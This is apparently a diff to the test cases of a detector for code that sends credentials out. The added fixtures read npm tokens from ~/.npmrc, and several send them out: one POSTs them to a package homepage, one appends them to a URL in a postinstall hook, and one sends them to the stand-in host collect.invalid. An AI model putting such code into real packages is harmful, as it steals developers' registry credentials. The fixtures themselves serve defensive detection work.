@@ -25,6 +25,35 @@ examine(sendsCredentials, {
       weight: 'weak',
     },
     {
+      when: 'a package manager that was told its own tokens answers an address, and that is asked',
+      files: {
+        'index.js': `const { execFileSync } = require('child_process'), fs = require('fs'), path = require('path'), os = require('os'); const tokens = () => Object.fromEntries(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('\\n').map(line => line.split('='))); const seen = JSON.parse(execFileSync('npm', ['view', 'specimen', '--json'], { env: tokens() })); fetch(seen.dist.attestations.url);`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'the same sends the tokens there',
+      files: {
+        'index.js': `const { execFileSync } = require('child_process'), fs = require('fs'), path = require('path'), os = require('os'); const tokens = () => Object.fromEntries(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('\\n').map(line => line.split('='))); const seen = JSON.parse(execFileSync('npm', ['view', 'specimen', '--json'], { env: tokens() })); fetch(seen.homepage, { method: 'POST', body: JSON.stringify(tokens()) });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the tokens stand in the address at install, whoever answered it',
+      files: {
+        'package.json': { scripts: { postinstall: 'node index.js' } },
+        'index.js': `const { execFileSync } = require('child_process'), fs = require('fs'), path = require('path'), os = require('os'); const tokens = () => Object.fromEntries(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('\\n').map(line => line.split('='))); const seen = JSON.parse(execFileSync('npm', ['view', 'specimen', '--json'], { env: tokens() })); fetch(seen.homepage + tokens().token);`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the tokens stand in the address of a host that is known',
+      files: {
+        'index.js': `const { execFileSync } = require('child_process'), fs = require('fs'), path = require('path'), os = require('os'); const tokens = () => Object.fromEntries(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('\\n').map(line => line.split('='))); const seen = execFileSync('npm', ['view', 'specimen', 'version'], { env: tokens() }); fetch('https://collect.invalid/' + seen + '/' + tokens().token);`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a client of Kubernetes asks the server that the user’s configuration names',
       files: {
         'index.js': `const fs = require('fs'), yaml = require('js-yaml'), { Agent, fetch } = require('undici'); const load = () => yaml.load(fs.readFileSync(require('os').homedir() + '/.kube/config', 'utf8')); exports.pods = () => { const { server, user } = load(); return fetch(server + '/api/v1/pods', { dispatcher: new Agent({ connect: { ca: Buffer.from(user.ca, 'base64') } }), headers: { authorization: user.token } }) }`,
